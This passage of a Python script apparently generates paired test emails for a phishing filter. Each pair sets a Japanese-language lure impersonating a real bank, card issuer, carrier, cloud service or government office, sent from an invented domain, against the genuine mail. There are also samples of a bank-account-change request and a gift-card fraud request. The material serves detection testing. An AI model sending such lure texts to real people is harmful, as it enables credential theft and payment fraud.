#!/usr/bin/python3
"""Minimal pairs for what a mail says, shows and leads to: links, HTML, claimed organisations, lures.

    tests/pairs/make_links.py FOLDER

writes what make.py writes, with two more columns in index.tsv: the rule (signal-only: the fact never stops a mail, so only its
presence is judged) and the file that says how the mail arrived. A fact that is weak alone stands in both mails of a pair, in an
attack that needs it and in honest mail that has it, too. Honest mail in the name of real organisations comes from their real
domains and leads there; everything else is invented.
"""
import base64
import hashlib
import importlib.util
import os
import sys

sys.dont_write_bytecode = True
spec = importlib.util.spec_from_file_location("pairs_make", os.path.join(os.path.dirname(os.path.abspath(__file__)), "make.py"))
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
s = m.s
mail, text, several, html, f, plain, with_files, ITO, PDF = s.mail, s.text, s.several, s.html, m.f, m.plain, m.with_files, m.ITO, m.PDF

PAIRS = []
OUR = "info@" + s.OWN
SIGNED = "\n\n山手商会　伊藤 美咲\n横浜市山手町1-2-3\nTEL 045-000-0099"
SHOP = "https://www.yamate-shokai.example"


def pair(signal, trait, attack, twin, rule="", arrivals=("", "")):
    PAIRS.append((signal, trait, attack, twin, rule, arrivals))


def fact(signal, trait, attack, twin, arrivals=("", "")):
    """A fact that stops nothing by itself: shown by the one, not by the other."""
    pair(signal, trait, attack, twin, "signal-only", arrivals)


def paragraphs(words):
    return "".join("<p>%s</p>\n" % p.replace("\n", "<br>\n") for p in words.split("\n\n"))


def button(link, label):
    return ('<table role="presentation" cellspacing="0" cellpadding="0"><tr><td bgcolor="#0b5ed7" style="border-radius:4px">'
            '<a href="%s" style="display:inline-block;padding:12px 28px;color:#ffffff;text-decoration:none">%s</a></td></tr></table>\n' % (link, label))


def page(words, link=None, label="確認する", top="", end="", head="", way=button):
    return ('<!DOCTYPE html>\n<html lang="ja"><head><meta charset="utf-8">%s</head>\n<body style="background:#ffffff;color:#333333">\n%s'
            '<div style="max-width:600px;font-size:14px">\n%s%s%s</div>\n</body></html>\n' % (
                head, top, paragraphs(words), way(link, label) if link else "", end))


def anchor(link, label):
    return '<p><a href="%s">%s</a></p>\n' % (link, label)


def letter(name, addr, subject, words, link=None, label="確認する", plain_words="", files=(), shown=None, **kw):
    """Text and HTML of the same words with one button. plain_words: another text part, None for none; shown: the whole HTML."""
    about = {k: kw.pop(k) for k in ("top", "end", "head", "way") if k in kw}
    body = html(page(words, link, label, **about) if shown is None else shown)
    if plain_words is not None:
        body = several([text(plain_words or words + ("\n\n%s\n%s\n" % (label, link) if link else "\n"), "utf-8"), body], "alternative", preamble=b"")
    if files:
        body = several([body] + list(files))
    return mail(name, addr, subject, body, charset="utf-8", mailer=kw.pop("mailer", ""), **kw)


def ours(words, link=None, subject="ご案内", **kw):
    """From a firm nobody here knows, with its own signature."""
    return letter(*ITO, subject, words + SIGNED, link, **kw)


# --------------------------------------------------- who is claimed, and what is wanted: the same words from the real and from another

# key: shown name, real address, real link, subject, words, button
BRANDS = {
    "amazon": ("Amazon.co.jp", "account-update@amazon.co.jp", "https://www.amazon.co.jp/gp/css/homepage.html", "お支払い方法の更新をお願いいたします",
               "Amazonをご利用いただきありがとうございます。\n\nお客様のアカウントで異常なログインが検出されたため、アカウントのご利用を一時的に停止しました。\n24時間以内に本人確認をお済ませください。確認できない場合、アカウントは永久に停止されます。", "本人確認を行う"),
    "smbc-card": ("三井住友カード", "statement@vpass.ne.jp", "https://www.smbc-card.com/mem/index.jsp", "【重要】カードのご利用確認のお願い",
                  "いつも三井住友カードをご利用いただきありがとうございます。\n\n第三者による不正利用の可能性を検知したため、カードのご利用を一部制限させていただきました。\nVpassにログインのうえ、ご利用内容をご確認ください。", "ご利用確認はこちら"),
    "apple": ("Apple", "no_reply@email.apple.com", "https://appleid.apple.com/", "Apple IDの情報をご確認ください",
              "お客様のApple IDが別の端末でサインインに使用されました。\n\n心当たりがない場合は、アカウントがロックされる前に情報をご確認ください。", "アカウントを確認"),
    "ekinet": ("えきねっと", "noreply@eki-net.com", "https://www.eki-net.com/Personal/member/wb/Login/Login", "【えきねっと】アカウント自動退会処理について",
               "日頃より「えきねっと」をご利用いただきありがとうございます。\n\n最後にログインをした日より起算して2年以上ご利用がないため、アカウントは自動的に退会処理となります。\n継続をご希望の場合はログインしてください。", "ログインはこちら"),
    "etc": ("ETC利用照会サービス", "etc-user@etc-meisai.jp", "https://www2.etc-meisai.jp/etc/R?funccode=1013000000", "【ETC利用照会サービス】解約予告のお知らせ",
            "平素よりETC利用照会サービスをご利用いただきありがとうございます。\n\n420日間ログインのないお客様のユーザーIDは、解約予定日までにログインいただけない場合、登録が解約となります。", "ログインして登録を継続する"),
    "sbi": ("SBI証券", "info@sbisec.co.jp", "https://www.sbisec.co.jp/ETGate", "【SBI証券】多要素認証の設定のお願い",
            "平素よりSBI証券をご利用いただきありがとうございます。\n\nセキュリティ強化のため、多要素認証の設定が必須となりました。期限までに設定されない場合、お取引が制限されます。", "設定に進む"),
    "mufg": ("三菱UFJ銀行", "info@mail.bk.mufg.jp", "https://direct.bk.mufg.jp/", "【三菱UFJ銀行】お取引目的等の確認のお願い",
             "三菱UFJダイレクトをご利用のお客様へ\n\n犯罪収益移転防止法に基づき、お客様の情報の確認が必要です。ご回答がない場合、お取引を一部制限させていただくことがあります。", "お客様情報を確認する"),
    "microsoft": ("Microsoft アカウント チーム", "account-security-noreply@accountprotection.microsoft.com", "https://account.live.com/Activity", "Microsoft アカウントの不審なサインイン",
                  "Microsoft アカウントへの最近のサインインで、通常とは異なる点が検出されました。\n\n国/地域: ロシア\nプラットフォーム: Windows 10\n\nご本人でない場合は、最近のアクティビティを確認してアカウントを保護してください。", "最近のアクティビティを確認する"),
    "mercari": ("メルカリ", "no-reply@mercari.jp", "https://jp.mercari.com/mypage", "【メルカリ】本人確認のお手続きについて",
                "いつもメルカリをご利用いただきありがとうございます。\n\n本人情報の確認が完了していないため、お客様のアカウントの利用が制限されています。", "本人確認に進む"),
    "jcb": ("MyJCB", "mail@qa.jcb.co.jp", "https://my.jcb.co.jp/Login", "【MyJCB】カードご利用のお知らせ",
            "JCBカードのご利用がありましたのでお知らせします。\n\nご利用日時：2026/10/20 02:14\nご利用金額：89,800円\nご利用先：海外加盟店\n\nお心当たりのない場合は、MyJCBからご確認ください。", "ご利用明細を確認"),
    "rakuten-card": ("楽天カード株式会社", "info@mail.rakuten-card.co.jp", "https://www.rakuten-card.co.jp/e-navi/", "【楽天カード】お支払い金額のご確認",
                     "ご指定の口座からカードご利用代金のお引き落としができませんでした。\n\n未払い金額：43,720円\n楽天e-NAVIにログインし、お支払いの手続きをお願いいたします。", "楽天e-NAVIで支払う"),
    "tepco": ("東京電力エナジーパートナー", "noreply@kurashi.tepco.co.jp", "https://www.kurashi.tepco.co.jp/kpf-login", "【くらしTEPCO】電気料金のお支払いについて",
              "東京電力エナジーパートナーをご利用いただきありがとうございます。\n\n電気料金のお支払いが確認できておりません。期日までにお支払いいただけない場合、電気の供給を停止することがあります。", "お支払い手続きへ"),
    "docomo": ("NTTドコモ", "info@mydocomo.com", "https://www.docomo.ne.jp/mydocomo/", "【NTTドコモ】ご利用料金のお支払いのお願い",
               "NTTドコモをご利用いただきありがとうございます。\n\nお客様のご利用料金のお支払いの確認が取れておりません。本日中にお支払いいただけない場合、ご利用を停止いたします。", "お支払いはこちら"),
    "netflix": ("Netflix", "info@account.netflix.com", "https://www.netflix.com/youraccountpayment", "お支払い情報を更新してください",
                "お支払いを処理できませんでした。\n\nアカウントが保留になっています。お支払い情報を更新すると、すぐに視聴を再開できます。", "お支払い情報を更新"),
    "nhk": ("NHK受信料窓口", "noreply@nhk-cs.jp", "https://www.nhk-cs.jp/jushinryo/", "【NHK】放送受信料のお支払いについて",
            "NHKをご覧いただきありがとうございます。\n\n放送受信料の未払いがあります。クレジットカード情報の更新手続きをお願いいたします。", "お支払い情報の更新"),
    "yamato": ("ヤマト運輸株式会社", "mail@kuronekoyamato.co.jp", "https://toi.kuronekoyamato.co.jp/cgi-bin/tneko", "お荷物お届けのお知らせ【不在連絡】",
               "クロネコメンバーズの登録情報に基づき、お荷物のお届けについてお知らせします。\n\n宛先不明のためお荷物を持ち帰りました。住所をご確認のうえ、再配達をご依頼ください。", "再配達を依頼する"),
    "sagawa": ("佐川急便株式会社", "noreply@sagawa-exp.co.jp", "https://k2k.sagawa-exp.co.jp/p/sagawa/web/okurijoinput.jsp", "【佐川急便】お荷物のお届けについて",
               "お客様宛にお荷物のお届けにあがりましたが不在のため持ち帰りました。\n\n配送物は下記よりご確認ください。", "お荷物を確認する"),
    "japanpost": ("日本郵便", "noreply@post.japanpost.jp", "https://trackings.post.japanpost.jp/services/srv/search/input", "【日本郵便】お荷物が配達できませんでした",
                  "配達先の住所に誤りがあるため、お荷物を配達できませんでした。\n\n48時間以内に住所を更新されない場合、お荷物は差出人に返送されます。", "住所を更新する"),
    "dhl": ("DHL Express", "noreply@dhl.com", "https://www.dhl.com/jp-ja/home/tracking.html", "DHL: お客様の貨物が通関で保留されています",
            "お客様の貨物は関税の未払いにより通関で保留されています。\n\n関税 320円をお支払いいただくと、配達を再開いたします。", "関税を支払う"),
    "rakuten": ("楽天市場", "order@rakuten.co.jp", "https://order.my.rakuten.co.jp/", "【楽天市場】ポイント進呈のお知らせ",
                "おめでとうございます。楽天ポイント5,000ポイントの進呈対象に選ばれました。\n\n有効期限は本日までです。下記よりお受け取りください。", "ポイントを受け取る"),
    "aupay": ("au PAY", "aupay-info@kddi.com", "https://aupay.wallet.auone.jp/", "【au PAY】キャッシュバックのご案内",
              "au PAYをご利用いただきありがとうございます。\n\n抽選の結果、10,000円分のキャッシュバックに当選されました。", "当選内容を確認する"),
    "aeon": ("イオンカード", "info@mail.aeon.co.jp", "https://www.aeon.co.jp/", "【イオンカード】ご利用確認のお願い",
             "イオンカードをご利用いただきありがとうございます。\n\nお客様のカードのご利用内容についてご確認をお願いいたします。", "暮らしのマネーサイト"),
    "epos": ("エポスカード", "info@eposcard.co.jp", "https://www.eposcard.co.jp/member/index.html", "【エポスカード】お客様情報の確認",
             "エポスカードをご利用いただきありがとうございます。\n\nエポスNetの登録情報に一部確認が必要な項目があります。", "エポスNetにログイン"),
    "saison": ("セゾンカード", "info@mail.saisoncard.co.jp", "https://www.saisoncard.co.jp/", "【セゾンカード】Netアンサーからのお知らせ",
               "セゾンカードをご利用いただきありがとうございます。\n\nNetアンサーのパスワードの有効期限が近づいています。", "Netアンサーへログイン"),
    "paypay": ("PayPay", "no-reply@paypay.ne.jp", "https://www.paypay.ne.jp/app/account", "【PayPay】アカウントの利用制限について",
               "PayPayをご利用いただきありがとうございます。\n\n不正な取引が検出されたため、アカウントの一部機能を制限しました。", "制限を解除する"),
    "google": ("Google", "no-reply@accounts.google.com", "https://myaccount.google.com/notifications", "セキュリティ通知",
               "お使いの Google アカウントへの新しいログインがありました。\n\nお客様ご自身によるログインでない場合は、アクティビティを確認してください。", "アクティビティを確認"),
    "m365": ("Microsoft 365", "microsoft-noreply@microsoft.com", "https://portal.office.com/", "Microsoft 365 のパスワードの有効期限が切れます",
             "お使いの Microsoft 365 のパスワードは本日で有効期限が切れます。\n\n引き続きメールをご利用いただくには、現在のパスワードを保持してください。", "パスワードを保持する"),
    "docusign": ("DocuSign", "dse_na3@docusign.net", "https://www.docusign.net/Signing/EmailStart.aspx", "署名のご依頼：業務委託契約書",
                 "業務委託契約書の確認と署名が依頼されています。\n\n内容をご確認のうえ、署名をお願いいたします。", "文書を確認"),
    "dropbox": ("Dropbox", "no-reply@dropbox.com", "https://www.dropbox.com/home", "「令和8年度 見積書.pdf」が共有されました",
                "伊藤 美咲さんが「令和8年度 見積書.pdf」を共有しました。", "ファイルを表示"),
    "zoom": ("Zoom", "no-reply@zoom.us", "https://zoom.us/account", "Zoom アカウントの確認",
             "お客様の Zoom アカウントは確認が完了していないため、まもなく停止されます。", "アカウントを確認"),
    "yucho": ("ゆうちょ銀行", "info@jp-bank.japanpost.jp", "https://direct.jp-bank.japanpost.jp/", "【ゆうちょ銀行】口座振替のお知らせ",
              "ゆうちょダイレクトをご利用いただきありがとうございます。\n\n口座振替の手続きが完了しておりません。登録内容をご確認ください。", "ゆうちょダイレクトへ"),
    "viewcard": ("ビューカード", "info@viewsnet.jp", "https://viewsnet.jp/", "【ビューカード】ご請求額のお知らせ",
                 "VIEW's NETをご利用いただきありがとうございます。\n\n今月のご請求額が確定しましたのでお知らせします。", "VIEW's NETで確認"),
    "nissay": ("日本生命保険相互会社", "info@nissay.co.jp", "https://www.nissay.co.jp/", "【日本生命】保険料お払込みのご案内",
               "日頃より日本生命をお引き立ていただきありがとうございます。\n\n保険料の口座振替ができませんでした。このままですとご契約が失効する場合があります。", "お払込み手続きへ"),
    "askul": ("アスクル", "order@askul.co.jp", "https://www.askul.co.jp/", "【アスクル】ご注文の確認",
              "アスクルをご利用いただきありがとうございます。\n\nご注文のニトリル手袋 10箱の出荷準備ができました。お届け先をご確認ください。", "注文内容を確認する"),
    "suzuken": ("株式会社スズケン", "info@suzuken.co.jp", "https://www.suzuken.co.jp/", "【スズケン】ご請求書発行のお知らせ",
                "平素は格別のお引き立てを賜り厚く御礼申し上げます。\n\n10月分の医薬品のご請求書を発行いたしました。", "請求書を確認する"),
    "alfresa": ("アルフレッサ株式会社", "info@alfresa.co.jp", "https://www.alfresa.co.jp/", "医薬品の出荷調整のお知らせ",
                "いつもお世話になっております。\n\n下記品目の出荷調整についてご案内いたします。ログインのうえ、割当数をご確認ください。", "割当数を確認する"),
    "m3": ("m3.com", "info@m3.com", "https://www.m3.com/", "【m3.com】ポイント失効のお知らせ",
           "m3.com会員の先生方へ\n\n保有されているポイントが今月末で失効します。お早めにご利用ください。", "ポイントを確認する"),
    "onamae": ("お名前.com", "info@onamae.com", "https://navi.onamae.com/", "【お名前.com】ドメイン更新手続きのお願い",
               "ご利用のドメインの有効期限が近づいています。\n\n更新されない場合、メールとホームページがご利用いただけなくなります。", "更新手続きへ"),
    "xserver": ("エックスサーバー", "support@xserver.co.jp", "https://secure.xserver.ne.jp/xapanel/login/xserver/", "【重要】サーバーアカウント利用期限のお知らせ",
                "平素は当サービスをご利用いただきありがとうございます。\n\nサーバーアカウントの利用期限が近づいております。料金のお支払いをお願いいたします。", "お支払いはこちら"),
    "yayoi": ("弥生株式会社", "info@yayoi-kk.co.jp", "https://myportal.yayoi-kk.co.jp/", "給与明細が公開されました",
              "10月分の給与明細が公開されました。\n\nログインしてご確認ください。", "給与明細を見る"),
    "mynaportal": ("マイナポータル", "no-reply@info.myna.go.jp", "https://myna.go.jp/", "【マイナポータル】お知らせが届いています",
                   "マイナポータルにお知らせが届いています。\n\n電子証明書の有効期限が近づいています。内容をご確認ください。", "お知らせを確認する"),
    "etax": ("e-Tax（国税電子申告・納税システム）", "info@e-tax.nta.go.jp", "https://www.e-tax.nta.go.jp/", "【e-Tax】税務署からのお知らせ",
             "e-Taxをご利用いただきありがとうございます。\n\n所得税の還付金についてお知らせがあります。受取口座をご確認ください。", "還付金の受取手続き"),
    "ssk": ("社会保険診療報酬支払基金", "info@ssk.or.jp", "https://www.ssk.or.jp/", "オンライン請求システムの証明書更新について",
            "レセプトのオンライン請求システムをご利用の医療機関の皆さまへ\n\n電子証明書の更新が必要です。更新されない場合、レセプトの送信ができなくなります。", "証明書を更新する"),
}
WHO = "who sends it, and so where the button leads"


def fake(key, addr, link, **kw):
    """The brand's letter from another address, leading elsewhere; either may be None for the real one."""
    name, real, real_link, subject, words, label = BRANDS[key]
    return letter(kw.pop("name", name), addr or real, kw.pop("subject", subject), kw.pop("words", words), link or real_link, kw.pop("label", label), **kw)


def real(key, **kw):
    return fake(key, None, None, **kw)


def brand(signal, key, addr, link, trait=WHO, **kw):
    pair(signal, trait, fake(key, addr, link, **kw), real(key, **kw))


LURES = (
    # signal, brand, address, link of the attack
    ("mail.text.lure-account", "amazon", "no-reply@mail.kaitori-naka.test", "https://ninsho-login.test/ap/signin"),
    ("mail.text.lure-account", "smbc-card", "info@seikatsu-club.test", "https://kaiin-kakunin.test/mem/"),
    ("mail.text.lure-account", "apple", "support@id-service.test", "https://account-anzen.test/jp"),
    ("mail.text.lure-account", "etc", "admin@hoshino-kensetsu.example", "https://riyou-shokai.test/etc/R"),
    ("mail.text.lure-account", "sbi", "info@toushi-anzen.test", "https://tayousoninsho.test/ETGate"),
    ("mail.text.lure-account", "mercari", "service@furima.test", "https://honnin-kakunin.test/mypage"),
    ("mail.text.lure-payment", "rakuten-card", "info@card-tetsuzuki.test", "https://enavi-shiharai.test/"),
    ("mail.text.lure-payment", "tepco", "info@denki-ryokin.test", "https://denki-shiharai.test/login"),
    ("mail.text.lure-payment", "docomo", "info@keitai-ryokin.test", "https://ryokin-shiharai.test/"),
    ("mail.text.lure-payment", "netflix", "billing@eiga-haishin.test", "https://haishin-koushin.test/payment"),
    ("mail.text.lure-payment", "nissay", "info@hoken-madoguchi.test", "https://hokenryo-shiharai.test/"),
    ("mail.text.lure-payment", "nhk", "info@jushinryo.test", "https://hoso-shiharai.test/"),
    ("mail.text.lure-delivery", "yamato", "info@takuhai-renraku.test", "https://saihaitatsu.test/tneko"),
    ("mail.text.lure-delivery", "sagawa", "info@nimotsu-todoke.test", "https://fuzai-renraku.test/p"),
    ("mail.text.lure-delivery", "japanpost", "info@yubin-haitatsu.test", "https://jusho-koushin.test/"),
    ("mail.text.lure-delivery", "dhl", "parcel@cargo-notice.test", "https://kanzei-shiharai.test/dhl"),
    ("mail.text.lure-prize", "rakuten", "info@point-campaign.test", "https://point-uketori.test/"),
    ("mail.text.lure-prize", "aupay", "info@tousen-annai.test", "https://tousen-kakunin.test/"),
    ("mail.text.lure-mailbox", "m365", "it@tenant-notice.test", "https://password-hoji.test/login"),
    ("mail.text.urgency", "docomo", "info@ryokin-annai.test", "https://seikyu-annai.test/pay"),
    ("mail.text.urgency", "japanpost", "info@fuzai-annai.test", "https://haitatsu-annai.test/"),
    ("mail.from.claims-brand", "aeon", "info@kurashi-news.test", "https://kurashi-login.test/"),
    ("mail.from.claims-brand", "epos", "info@01epos-mail.test", "https://net-kaiin.test/member"),
    ("mail.from.claims-brand", "saison", "info@netanswer.test", "https://netanswer-login.test/"),
    ("mail.from.claims-brand", "paypay", "info@kessai-anzen.test", "https://seigen-kaijo.test/"),
    ("mail.from.claims-brand", "google", "security@login-notice.test", "https://activity-check.test/"),
    ("mail.from.claims-brand", "docusign", "sign@keiyaku-online.test", "https://shomei-irai.test/sign"),
    ("mail.from.claims-brand", "dropbox", "share@file-kyoyu.test", "https://file-etsuran.test/view"),
    ("mail.from.claims-brand", "zoom", "no-reply@kaigi-annai.test", "https://kaigi-login.test/"),
    ("mail.from.claims-brand", "yucho", "info@koza-kanri.test", "https://koza-furikae.test/"),
    ("mail.from.claims-brand", "askul", "order@yohin-tsuhan.test", "https://chumon-kakunin.test/"),
    ("mail.from.claims-brand", "suzuken", "seikyu@iyaku-oroshi.test", "https://seikyusho-kakunin.test/"),
    ("mail.from.claims-brand", "alfresa", "info@iyaku-shukka.test", "https://shukka-chosei.test/"),
    ("mail.from.claims-brand", "m3", "info@ishi-kaiin.test", "https://point-shikko.test/"),
    ("mail.from.claims-brand", "yayoi", "kyuyo@meisai-kokai.test", "https://kyuyo-meisai.test/login"),
    ("mail.from.claims-brand", "mufg", "info@torihiki-kakunin.test", "https://torihiki-mokuteki.test/"),
    ("mail.from.claims-brand", "onamae", "info@domain-koushin.test", "https://domain-kanri.test/navi"),
    ("mail.from.claims-authority", "ssk", "info@online-seikyu.test", "https://shomeisho-koushin.test/"),
    ("mail.from.claims-authority", "etax", "info@kanpukin-annai.test", "https://kanpukin-uketori.test/"),
)
for row in LURES:
    brand(*row)

# The brand in another place than the name, or as a thing that is spoken of
pair("mail.from.claims-brand", "the brand sends, or a firm that writes about it and signs with its own name",
     fake("amazon", "news@keiei-tsushin.example", "https://www.keiei-tsushin.example/amazon", subject="Amazonギフトカードのお知らせ", words="Amazonからのお知らせです。\n\nアカウントの情報をご確認ください。"),
     fake("amazon", "news@keiei-tsushin.example", "https://www.keiei-tsushin.example/amazon", name="経営通信編集部", subject="アンケートご協力のお願い",
          words="アンケートにお答えいただいた方に、抽選でAmazonギフトカード500円分をお送りします。\n\n経営通信編集部"))
pair("mail.from.claims-brand", "the brand's name, or a shop on the brand's market under its own",
     fake("rakuten", "shop@midorido-ph.example", "https://www.midorido-ph.example/order", subject="ご注文の確認", words="ご注文いただきありがとうございます。\n\nお支払い方法をご確認ください。"),
     fake("rakuten", "shop@midorido-ph.example", "https://www.midorido-ph.example/order", name="みどり堂薬局 楽天市場店", subject="ご注文の確認", words="ご注文いただきありがとうございます。\n\nお支払い方法をご確認ください。"))
pair("mail.from.claims-brand", "Microsoft itself, or a dealer that sells its service", fake("m365", "info@toto-it.example", "https://www.toto-it.example/m365"),
     fake("m365", "info@toto-it.example", "https://www.toto-it.example/m365", name="東都ITサポート", subject="Microsoft 365 導入セミナーのご案内",
          words="クリニック様向けに、Microsoft 365 の導入セミナーを開催いたします。\n\n参加費は無料です。", label="セミナーの詳細"))
pair("mail.from.claims-brand", "the name folded together from full-width letters and blanks; the twin from the shop itself", fake("amazon", "info@shop-kanri.test", "https://shop-login.test/", name="Ａ ｍ ａ ｚ ｏ ｎ"), real("amazon"))
pair("mail.from.claims-brand", "Cyrillic letters in the brand's name", fake("amazon", "info@tsuhan-kanri.test", "https://tsuhan-login.test/", name="Аmаzоn.co.jp"), real("amazon"))
pair("mail.from.claims-brand", "no name in From; the brand is in the subject and in the logo's alternative text",
     fake("epos", "info@mailsrv-11.test", "https://kaiin-page.test/", name="", subject="【エポスカード】重要なお知らせ", top='<img src="https://kaiin-page.test/logo.png" alt="エポスカード" width="120">\n'),
     fake("epos", None, None, name="", subject="【エポスカード】重要なお知らせ", top='<img src="https://www.eposcard.co.jp/logo.png" alt="エポスカード" width="120">\n'))
pair("mail.from.claims-brand", "a card company, from another's domain; from its own with its short address for links",
     fake("rakuten-card", "info@rkcard-info.test", "https://rk-card-info.test/s/1"), fake("rakuten-card", None, "https://r10.to/hABCDE"))
pair("mail.from.claims-brand", "a share notice: of a stranger's host, or the cloud's own with the colleague's name in front",
     letter("伊藤 美咲 (SharePoint)", "no-reply@share-notice.test", "伊藤 美咲さんが「見積書」を共有しました", "伊藤 美咲さんがあなたとファイルを共有しました。\n\n見積書.xlsx", "https://share-notice.test/open", "開く"),
     letter("伊藤 美咲 (SharePoint)", "no-reply@sharepointonline.com", "伊藤 美咲さんが「見積書」を共有しました", "伊藤 美咲さんがあなたとファイルを共有しました。\n\n見積書.xlsx", "https://yamate-my.sharepoint.com/:x:/g/personal/ito/EabcDEF", "開く"))
pair("mail.from.claims-brand", "spoofed: the brand's own address without any proof; with it",
     fake("ekinet", None, "https://ekinet-shinsei.test/login", auth="fail", sender="x@vps-21.test"), real("ekinet"))
brand("mail.text.lure-account", "jcb", "marehxae@jcb-riyou.test", "https://riyou-meisai.test/", subject="お客様のJCBアカウントがロックされている 番号：「48028548」",
      words="第三者によってあなたのカードが使用されていることを検知したので、口座が凍結されました。\n\nすぐにIDとパスワードを再登録して、制限を解除しなければなりません。")
pair("mail.text.lure-account", "a password reset nobody can check: the link leads elsewhere, or to the service that sent it",
     letter("予約システム メディ予約", "noreply@medi-yoyaku.example", "パスワード再設定のご案内", "パスワードの再設定を受け付けました。\n\n下記より24時間以内に新しいパスワードを設定してください。\nお心当たりのない場合は、このメールを破棄してください。", "https://medi-yoyaku.login-pw.workers.dev/reset", "パスワードを再設定"),
     letter("予約システム メディ予約", "noreply@medi-yoyaku.example", "パスワード再設定のご案内", "パスワードの再設定を受け付けました。\n\n下記より24時間以内に新しいパスワードを設定してください。\nお心当たりのない場合は、このメールを破棄してください。", "https://www.medi-yoyaku.example/reset?t=8a1f03", "パスワードを再設定"))

# ------------------------------------------------------------------------------------------------ who it is from, otherwise

FORM = "https://docs.google.com/forms/d/e/1FAIpQLSd-kaihi/viewform"
DUES = "令和8年度の年会費が未納となっております。\n\n下記のフォームより、10月末日までにお手続きをお願いいたします。\n\n%s"
DEADLINE = "未納の先生は、至急お手続きください。"


def dues(name, addr, words=DEADLINE):
    return letter(name, addr, "年会費納入のお願い", DUES % words, FORM, "会費のお手続き")


def shinkin(addr):
    return letter("ひなた信用金庫 融資部", addr, "口座情報ご確認のお願い", "お取引の安全のため、口座情報のご確認をお願いいたします。\n\n期日までに確認できない場合、お取引を制限することがあります。",
                  "https://www.hinata-shinkin.example/kakunin", "口座情報の確認")


pair("mail.from.freemail-claims-org", "a learned society writes from a free mailbox, or from its domain",
     dues("日本総合外来学会 事務局", "gakkai.jimu@gmail.com"), dues("日本総合外来学会 事務局", "jimu@sogo-gairai.example"))
pair("mail.from.freemail-claims-org", "a pharmacists' association on a free mailbox, or on its own domain",
     dues("みなと市薬剤師会", "minato.yaku@yahoo.co.jp"), dues("みなと市薬剤師会", "info@minato-yakuzaishi.example"))
pair("mail.from.freemail-claims-org", "a credit union on a free mailbox, or on its own domain",
     shinkin("hinata.shinkin@outlook.jp"), shinkin("yushi@hinata-shinkin.example"))
pair("mail.from.freemail-claims-org", "on a provider's mailbox: a public health centre, or a doctor's practice",
     plain("立入検査の日程についてご連絡いたします。\n11月5日の午後に伺います。\n", name="ひなた保健所", addr="hinata@plala.or.jp", subject="日程のご連絡"),
     plain("研修会の日程についてご連絡いたします。\n11月5日の午後に伺います。\n", name="田中医院", addr="tanaka-iin@plala.or.jp", subject="日程のご連絡"))
fact("mail.from.freemail-claims-org", "a free mailbox signed by a bank, or by a patient's family",
     plain("ご融資の件でご連絡いたしました。\n\nみずほ銀行 横浜支店 融資課\n", name="山田", addr="yamada.h@gmail.com"),
     plain("予約の件でご連絡いたしました。\n\n山田 花子\n", name="山田", addr="yamada.h@gmail.com"))
fact("mail.from.freemail-claims-org", "the hospital's medical office, or a person who works there", plain(name="さつき台総合病院 医事課", addr="satsuki.iji@gmail.com"), plain(name="大野 一郎", addr="satsuki.iji@gmail.com"))

REPLY = b"Reply-To: "
NEWACC = ("いつもお世話になっております。山手商会の伊藤です。\n\n%s\nお手数ですが、ご変更のほどよろしくお願いいたします。" + SIGNED + "\n")
ACCOUNT = "誠に勝手ながら、今月のお支払い分より弊社の振込先口座を下記へ変更させていただきます。\n\n新しい振込先\nみなと銀行　横浜支店　普通 1234567　ヤマテシヨウカイ\n"
ADDRESS = "誠に勝手ながら、11月1日より弊社の所在地を下記へ変更させていただきます。\n\n新しい所在地\n〒231-0000 横浜市山手町4-5-6 山手ビル3階\n"
pair("mail.reply-to.other-domain", "answers about a new account go to a free mailbox, answers about a new address to the firm",
     plain(NEWACC % ACCOUNT, more=(REPLY + b"ito.yamate@gmail.com",)), plain(NEWACC % ADDRESS, more=(REPLY + b"ito@yamate-shokai.example",)))
fact("mail.reply-to.other-domain", "a free mailbox, or another department's host below the same domain",
     plain(more=(REPLY + b"ito.yamate@gmail.com",)), plain(more=(REPLY + b"support@cs.yamate-shokai.example",)))
fact("mail.reply-to.other-domain", "a stranger's domain, or the sender's in capitals", plain(more=(REPLY + b"ito@yamate-shokai-office.test",)), plain(more=(REPLY + b"ITO@Yamate-Shokai.Example",)))
pair("mail.reply-to.other-domain", "answers go to another domain than the sender's: of a wish for gift cards, of an invitation that a congress office sends out",
     plain("今すぐ対応できますか。\nAppleギフトカードを5万円分、至急購入してコードの写真を返信してください。会議中のため電話には出られません。\n", name="院長", addr="incho@mail-jimu.test", subject="至急の依頼", more=(REPLY + b"incho.office@gmail.com",)),
     plain("第12回地域連携の会のご案内です。\n参加をご希望の方は、本メールにご返信ください。\n", name="連携の会 運営事務局", addr="noreply@gakkai-unei.example", subject="ご案内", more=(REPLY + b"renkei@sogo-gairai.example",)))

ARRIVALS = {
    "dmarc-fail": "mail_from = bounce@bulk-host.example\nspf = pass\ndkim = none\ndmarc = fail\n",
    "own-envelope": "mail_from = ito@yamate-shokai.example\nspf = pass\ndkim = none\ndmarc = pass\n",
    "service": "mail_from = bounce@mailer-service.example\nspf = pass\ndkim = pass\ndmarc = pass\n",
    "host-below": "mail_from = bounce-77@mail.yamate-shokai.example\nspf = fail\ndkim = none\ndmarc = fail\n",
    "nothing": "mail_from = ito@yamate-shokai.example\nspf = none\ndkim = none\ndmarc = none\n",
    "spf": "mail_from = ito@yamate-shokai.example\nspf = pass\ndkim = none\ndmarc = none\n",
    "signed": "mail_from = ito@yamate-shokai.example\nspf = none\ndkim = pass\ndmarc = none\n",
}
BARE = plain(auth="none", results="")
fact("mail.envelope.differs", "the envelope is another's and nothing vouches for it, or the sender's own", BARE, BARE, ("dmarc-fail", "own-envelope"))
fact("mail.envelope.differs", "another's without proof, or a mailing service's with the sender's signature", BARE, BARE, ("dmarc-fail", "service"))
fact("mail.envelope.differs", "another's domain, or a host below the sender's", BARE, BARE, ("dmarc-fail", "host-below"))
fact("mail.auth.none", "neither SPF nor a signature, or SPF", BARE, BARE, ("nothing", "spf"))
fact("mail.auth.none", "neither, or a signature alone", BARE, BARE, ("nothing", "signed"))
fact("mail.auth.none", "as our own server's header says", plain(auth="none"), plain(auth="spf"))

# -------------------------------------------------------------------------------------------------------------- links

TRACK = "https://click.mailer-service.example/c/8f3a?u="
SMBC = "https://www.smbc-card.com/mem/index.jsp"
pair("mail.link.text-differs", "the text spells the card company's address, the link leads elsewhere; or where the text says",
     fake("smbc-card", "info@card-annai.test", "https://kaiin-login.test/mem", label=SMBC, way=anchor), real("smbc-card", label=SMBC, way=anchor))
pair("mail.link.text-differs", "the text spells one address, the link leads to a stranger; or through the sender's click counter to that address",
